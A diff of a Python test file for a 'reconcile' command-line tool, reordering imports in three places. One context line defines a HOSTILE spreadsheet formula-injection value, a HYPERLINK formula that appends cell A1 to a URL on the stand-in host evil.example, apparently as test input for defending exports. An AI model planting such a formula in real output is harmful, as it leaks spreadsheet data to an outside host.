@@ -9,9 +9,8 @@ import io
 import pytest
 from click.testing import CliRunner
 
-from reconcile.cli import cli
-
 from conftest import posix_only
+from reconcile.cli import cli
 from test_pipeline import PAYMENTS, REGISTRY, month
 
 HOSTILE = '=HYPERLINK("http://evil.example/x?"&A1,"Xem")'
@@ -54,9 +53,8 @@ def test_a_file_name_with_brackets_is_read_as_named_not_as_a_pattern(tmp_path):
     import duckdb
     import polars as pl
 
-    from test_pipeline import PAY_HEADER
-
     from conftest import write_csv
+    from test_pipeline import PAY_HEADER
 
     reg, _ = month(tmp_path, REGISTRY, PAYMENTS)
     decoy = [row[:] for row in PAYMENTS]
@@ -131,9 +129,8 @@ def test_a_wide_rejected_row_is_written_whole_in_file_order(tmp_path):
     thousands of columns)."""
     import openpyxl
 
-    from test_pipeline import PAY_HEADER
-
     from conftest import write_csv
+    from test_pipeline import PAY_HEADER
 
     reg, _ = month(tmp_path, REGISTRY, PAYMENTS)
     extra = [f"ghi chú {i}" for i in range(1500)]
